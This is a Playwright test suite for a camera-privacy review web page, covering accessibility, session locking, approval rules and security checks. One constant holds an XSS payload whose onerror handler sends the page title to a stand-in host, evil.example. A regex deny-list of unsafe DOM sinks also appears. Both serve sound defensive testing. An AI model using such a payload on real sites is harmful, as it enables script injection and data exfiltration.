"""The screens of the page: nobody is shut out, hostile texts stay texts, nothing is approved that was not looked at."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from itertools import pairwise
from typing import Any

import pytest
from in_chromium import axe_faults
from page_stub import CODE, PAGE, Stub, served
from page_values import camera, zone
from playwright.sync_api import Browser, Page, expect

from agent.onsite.ui import documents

Opening = Callable[..., Page]
HOSTILE = "<img src=x onerror=fetch('//evil.example/'+document.title)>\"'</script><script>alert(1)</script>"
PHONE: dict[str, Any] = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
LOOKS: dict[str, dict[str, Any]] = {
    "light, English": {"lang": "en", "color_scheme": "light"},
    "dark, Chinese": {"lang": "zh_CN", "color_scheme": "dark"},
    "dark, on a phone": {"lang": "en", "color_scheme": "dark", **PHONE},
    "Chinese, 400 % zoom": {"lang": "zh_CN", "color_scheme": "light", "viewport": {"width": 320, "height": 256}},
}  # fmt: skip
PAGE_MAX_BYTES = 60 * 1024


def shown(stub: Stub) -> Stub:
    """Something to see on every screen."""
    stub.cameras["yard"] |= {"draft": True}
    stub.marks["gate"] = {}
    return stub


def screens(page: Page) -> dict[str, Callable[[], object]]:
    """How to come to each screen, and to each part that opens within one."""

    def goes(screen: str, sign: str) -> None:
        page.evaluate("to => { location.hash = to; }", screen)
        page.wait_for_selector(f"main:not([aria-busy]) {sign}")

    def drawing() -> None:
        page.locator("[data-key=draw]").click()
        page.wait_for_selector(".surface polygon.zone")
        page.locator("[data-corner='1']").focus()
        page.locator("[data-key=card]").click()
        page.wait_for_selector(".card table")

    def keys() -> None:
        page.locator("[data-key=help]").click()
        page.wait_for_selector("dialog[open]")

    def site() -> None:
        goes("#/site", ".timeline")
        page.evaluate("() => document.querySelectorAll('details').forEach((one) => { one.open = true; })")

    return {
        "wall": lambda: goes("#/wall", ".tile img.there"),
        "looking": lambda: goes("#/camera/hall", ".shot img"),
        "drawing": drawing,
        "review": lambda: goes("#/review", ".diff"),
        "site": site,
        "keys": keys,
    }


@pytest.mark.parametrize("look", LOOKS)
def test_axe_finds_nothing_on_any_screen_and_no_screen_scrolls_sideways(look: str, opened: Opening) -> None:
    given = dict(LOOKS[look])
    stub = shown(Stub())
    stub.lang = given.pop("lang")
    page = opened(stub, **given)
    found, wide = {}, {}
    for name, come in screens(page).items():
        come()
        if faults := axe_faults(page, "target-size"):
            found[name] = faults
        over = page.evaluate("() => document.documentElement.scrollWidth - document.documentElement.clientWidth")
        if over > 0:
            wide[name] = over
    assert (found, wide) == ({}, {})


def test_axe_does_find_what_is_wrong(opened: Opening) -> None:
    page = opened(Stub())
    page.evaluate("() => document.querySelector('main').append(document.createElement('button'))")
    assert "button-name" in axe_faults(page)


def test_what_a_finger_must_hit_is_large_enough(opened: Opening) -> None:
    """WCAG 2.2 SC 2.5.8 asks for 24 px; under a finger it is 44."""
    small = """least => [...document.querySelectorAll('button, .corner, .tile, input:not([type=checkbox]), nav a')]
      .filter((one) => one.checkVisibility() && !one.closest('.skip'))
      .map((one) => [one.outerHTML.slice(0, 80), (one.querySelector('.reach') ?? one).getBoundingClientRect()])
      .filter(([, { width, height }]) => Math.min(width, height) < least - 0.5)"""
    for phone, least in ((True, 44), (False, 24)):
        look: dict[str, Any] = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
        page = opened(Stub(), "#/camera/gate", **(look if phone else {}))
        page.locator("[data-key=draw]").click()
        page.wait_for_selector(".corner")
        assert page.evaluate(small, least) == []


def test_hostile_names_stay_texts_make_no_request_and_no_console_line(opened: Opening) -> None:
    cam = camera(
        "hall", name=HOSTILE, placement=HOSTILE, words=HOSTILE,
        zones=[zone(HOSTILE, [[0.1, 0.1], [0.4, 0.1], [0.4, 0.4]], 0.5)],
        masks=[{"name": HOSTILE, "enabled": False, "polygon": [[0.1, 0.2], [0.4, 0.2], [0.4, 0.6]]}],
        device={"id": HOSTILE, "make": HOSTILE, "model": HOSTILE, "words": HOSTILE}, presets=[HOSTILE], names=[HOSTILE],
    )  # fmt: skip
    stub = Stub({"hall": cam, "yard": camera("yard"), "gate": camera("gate")}, site_name=HOSTILE)
    page = opened(shown(stub))
    for come in screens(page).values():
        come()
        assert page.evaluate("() => document.querySelectorAll('main img[src=x], main script').length") == 0
    page.locator("dialog button").click()
    page.evaluate("to => { location.hash = to; }", "#/camera/hall")
    page.wait_for_selector(".shot img")
    assert page.locator("h1").inner_text() == HOSTILE
    assert all("evil" not in path and path != "/x" for _, path, _ in stub.asked)


@pytest.mark.parametrize("name", sorted(path.name for path in PAGE.glob("*.js")))
def test_no_module_makes_markup_of_texts_or_is_too_long(name: str) -> None:
    text = (PAGE / name).read_text()
    forbidden = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function|setAttribute\(\"(style|on)"
    assert (
        re.findall(
            forbidden + r"|localStorage|sessionStorage|document\.cookie|https?://(?!www\.w3\.org/2000/svg)", text
        )
        == []
    )
    assert text.count("\n") <= 300 and max(map(len, text.splitlines())) < 260


def test_another_site_cannot_frame_the_page(browser: Browser) -> None:
    stub = Stub()
    with served(stub):
        page = browser.new_page()
        framing = f"<iframe src={stub.origin}/></iframe>"
        page.route("http://127.0.0.9/**", lambda route: route.fulfill(content_type="text/html", body=framing))
        with page.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
            page.goto("http://127.0.0.9/")
        assert all(not path.startswith(("/js", "/api")) for _, path, _ in stub.asked)
        page.close()


def test_the_code_leaves_the_address_and_the_key_leaves_no_trace(opened: Opening) -> None:
    page = opened(Stub())
    assert CODE not in page.url and CODE not in page.evaluate(
        "() => JSON.stringify([history.state, document.cookie, {...localStorage}, {...sessionStorage}])"
    )
    assert page.evaluate("() => [document.cookie, localStorage.length, sessionStorage.length]") == ["", 0, 0]


def test_a_second_tab_and_a_page_loaded_anew_are_locked_and_say_what_to_do(opened: Opening) -> None:
    stub = Stub()
    page = opened(stub)
    second = page.context.new_page()
    second.goto(stub.url)
    expect(second.locator("h1")).to_have_text("This page is locked")
    expect(second.get_by_role("alert")).to_contain_text("This code was used, or is too old. Start camwarden ui again.")
    page.reload()
    expect(page.locator("h1")).to_have_text("This page is locked")
    stub.codes.append("fresh")
    page.get_by_label("Or type the code of a fresh link").fill("fresh")
    page.keyboard.press("Enter")
    expect(page.locator("h1")).to_have_text("Cameras")


def test_a_file_changed_underneath_is_said_where_it_would_be_saved(opened: Opening) -> None:
    stub = shown(Stub())
    page = opened(stub, "#/review")
    stub.changed = True
    page.locator("[data-key=save]").click()
    expect(page.get_by_role("alert")).to_contain_text("site.toml was changed by somebody else.")
    assert stub.saved == []
    stub.changed = False
    page.get_by_role("button", name="Load anew").click()
    page.wait_for_selector(".notice", state="detached")
    page.locator("[data-key=save]").click()
    expect(page.locator(".toast")).to_have_text("Saved, and approved by Li Ming.")
    assert stub.saved[0]["approve"] == ["gate"]


def test_an_approval_takes_two_keys_and_every_picture_on_the_screen(opened: Opening) -> None:
    cams = {
        name: camera(name, zones=[zone("window", [[0.1, 0.1], [0.4, 0.1], [0.4, 0.4]], 0.0)], status="pass")
        for name in ("a1", "a2", "a3")
    }
    stub = Stub(cams)
    page = opened(stub)
    page.wait_for_selector(".tile")
    for count in range(1, 4):
        page.keyboard.press("n")
        expect(page.locator("h1")).to_have_text(f"a{count}")
        expect(page.locator(".approve [role=status]")).to_have_text("All 3 pictures were on the screen.")
        page.keyboard.press("a")
        expect(page.locator(".count")).to_contain_text(str(count))
    digests = {path: f"digest-{path}" for path in ("main", "sub", "snapshot")}
    assert {name: body["picture"] for name, body in stub.marks.items()} == {name: digests for name in cams}
    assert stub.saved == []
    page.keyboard.press("n")
    expect(page.locator("h1")).to_have_text("Review")


def test_pictures_below_the_fold_are_not_approved_unseen(opened: Opening) -> None:
    stub = Stub()
    page = opened(stub, "#/camera/gate", viewport={"width": 390, "height": 500})
    expect(page.locator(".approve [role=status]")).to_contain_text("of 3 pictures were on the screen")
    page.keyboard.press("a")
    assert stub.posts("/api/camera/gate/mark") == []
    for shot in page.locator(".shot").all():
        shot.scroll_into_view_if_needed()
    expect(page.locator(".approve [role=status]")).to_have_text("All 3 pictures were on the screen.")
    page.keyboard.press("a")
    page.wait_for_selector(".count")
    assert len(stub.posts("/api/camera/gate/mark")) == 1


def test_a_failing_zone_needs_a_reason(opened: Opening) -> None:
    stub = Stub()
    page = opened(stub, "#/camera/hall")
    expect(page.locator(".approve [role=status]")).to_have_text("All 3 pictures were on the screen.")
    page.keyboard.press("a")
    expect(page.locator(".approve [role=status]")).to_contain_text("say why it may stay so")
    assert stub.posts("/api/camera/hall/mark") == []
    page.keyboard.type("the tree has grown")
    page.keyboard.press("Enter")
    page.wait_for_selector(".count")
    assert stub.marks["hall"]["why"] == "the tree has grown"


def test_tab_goes_through_the_page_in_its_order(opened: Opening) -> None:
    page = opened(Stub())
    page.wait_for_selector(".tile img.there")
    order = []
    page.evaluate("() => document.activeElement.blur()")
    for _ in range(16):
        page.keyboard.press("Tab")
        order.append(
            page.evaluate("() => document.activeElement.innerText?.split('\\n')[0] || document.activeElement.type")
        )
    names = [
        "To the content",
        "Cameras",
        "Review",
        "Site",
        "中文",
        "?",
        "search",
        "All",
        "Left to do",
        "To draw",
        "To approve",
        "Not hidden",
        "Unknown",
        "Look at all again",
    ]
    assert order[:14] == names and order[14].endswith("old")


def test_arrows_go_from_tile_to_tile_and_single_keys_can_be_switched_off(opened: Opening) -> None:
    page = opened(Stub())
    page.wait_for_selector(".tile")
    for key, name in (("ArrowRight", "yard"), ("ArrowRight", "gate"), ("ArrowLeft", "yard")):
        page.keyboard.press(key)
        assert page.evaluate("() => document.activeElement.dataset.id") == name
    page.keyboard.press("/")
    page.keyboard.type("hall")
    expect(page.locator(".tile")).to_have_count(1)
    page.keyboard.press("Escape")
    page.keyboard.press("?")
    page.get_by_label("Single letters act as keys").uncheck()
    page.keyboard.press("Escape")
    page.keyboard.press("n")
    assert "#/camera" not in page.url


def test_live_asks_again_only_after_the_picture_is_painted_and_ends_with_the_screen(opened: Opening) -> None:
    stub = Stub()
    page = opened(stub, "#/camera/gate")
    page.locator("[data-key=draw]").click()
    page.locator("[data-key=live]").click()
    page.wait_for_function("() => document.querySelector('[data-key=live]')?.ariaPressed === 'true'")
    page.wait_for_function(
        "() => performance.getEntriesByType('resource').filter(({ name }) => name.endsWith('/live')).length >= 3"
    )
    order = [
        path.rsplit("/", 2)[-2 if "picture" in path else -1]
        for _, path, _ in stub.asked
        if path.endswith("/live") or "/picture/" in path
    ]
    assert re.fullmatch(r"(picture )+(live picture )+(live ?)?", " ".join(order) + " ")
    began = page.evaluate(
        """() => performance.getEntriesByType('resource').filter((one) => one.name.endsWith('/live'))
             .map((one) => one.startTime)"""
    )
    assert all(later - sooner >= 990 for sooner, later in pairwise(began))
    page.evaluate(
        """() => { Object.defineProperty(document, 'hidden', { value: true });
                   document.dispatchEvent(new Event('visibilitychange')); }"""
    )
    expect(page.locator("[data-key=live]")).to_have_attribute("aria-pressed", "false")


def test_a_picture_older_than_a_minute_is_greyed_and_says_its_age(opened: Opening) -> None:
    stub = Stub()
    stub.cameras["gate"]["age_s"] = 58.5
    stub.cameras["roof"]["age_s"] = None
    page = opened(stub)
    expect(page.locator("[data-id=gate] .age")).to_have_text(re.compile("5[89] s old"))
    expect(page.locator("[data-id=roof] .age")).to_have_text("never looked at")
    expect(page.locator("[data-id=gate] figure.old .age")).to_have_text("1 min old")


def test_a_program_that_is_gone_and_a_session_that_is_over_are_said(opened: Opening) -> None:
    page = opened(Stub())
    page.wait_for_selector(".tile")
    page.route("**/api/**", lambda route: route.abort())
    page.keyboard.press("r")
    expect(page.get_by_role("alert")).to_contain_text("camwarden ui does not answer.")
    page.unroute("**/api/**")
    page.route(
        "**/api/**",
        lambda route: route.fulfill(
            status=401, content_type="application/json", body=json.dumps({"error": {"message": "over", "next": ""}})
        ),
    )
    page.get_by_role("button", name="Try again").click()
    expect(page.locator("h1")).to_have_text("This page is locked")


def test_leaving_a_drawing_asks_first(opened: Opening) -> None:
    page = opened(Stub(), "#/camera/yard")
    page.locator("[data-key=rectangle]").focus()
    page.keyboard.press("Enter")
    asked: list[str] = []
    page.once("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    page.evaluate("() => { location.hash = '#/wall'; }")
    page.wait_for_function("() => location.hash === '#/camera/yard'")
    assert asked == ["What was drawn is not in Review yet. Leave it?"]
    expect(page.locator(".surface polygon.zone")).to_have_count(1)
    page.once("dialog", lambda dialog: dialog.accept())
    page.evaluate("() => { location.hash = '#/wall'; }")
    page.wait_for_selector(".tiles")


def test_who_wants_no_motion_and_forced_colours_has_a_page_all_the_same(opened: Opening) -> None:
    page = opened(Stub(), reduced_motion="reduce", forced_colors="active")
    page.wait_for_selector(".tile img.there")
    assert page.evaluate("() => getComputedStyle(document.querySelector('.tile img')).transitionDuration") == "0s"
    border = "() => getComputedStyle(document.querySelector('nav [aria-current]')).borderTopWidth"
    assert page.evaluate(border) == "3px"


def test_the_whole_page_is_small_and_nothing_of_it_comes_from_outside(opened: Opening) -> None:
    stub = shown(Stub())
    stub.lang = "zh_CN"
    page = opened(stub)
    for come in screens(page).values():
        come()
    files = [(PAGE / "index.html").read_bytes(), documents.style(), *(path.read_bytes() for path in PAGE.glob("*.js"))]
    assert sum(len(documents.packed(data)) for data in files) <= PAGE_MAX_BYTES
    assert {path for method, path, _ in stub.asked if not path.startswith("/api/")} == {
        "/",
        "/app.css",
        *(f"/js/{path.name}" for path in PAGE.glob("*.js")),
    }


def test_a_declaration_is_a_form_and_goes_into_review(opened: Opening) -> None:
    stub = Stub()
    page = opened(stub, "#/site")
    page.locator("summary", has_text="Scope").click()
    page.get_by_label("answer").select_option("public")
    page.get_by_label("until").fill("2027-11-29")
    page.get_by_label("cameras").select_option(["gate", "roof"])
    page.get_by_role("button", name="Put into Review").click()
    expect(page.locator("form [role=status]")).to_have_text("It is in Review now.")
    assert stub.posts("/api/declare") == [
        {"key": "scope", "value": "public", "until": "2027-11-29", "cameras": ["gate", "roof"]}
    ]


def test_the_report_is_handed_to_the_downloads(opened: Opening) -> None:
    page = opened(Stub(), "#/site")
    with page.expect_download() as waiting:
        page.get_by_role("button", name="Hand-over report").click()
    assert waiting.value.suggested_filename == "report.html" and waiting.value.path().read_bytes() == b"<p>report</p>"
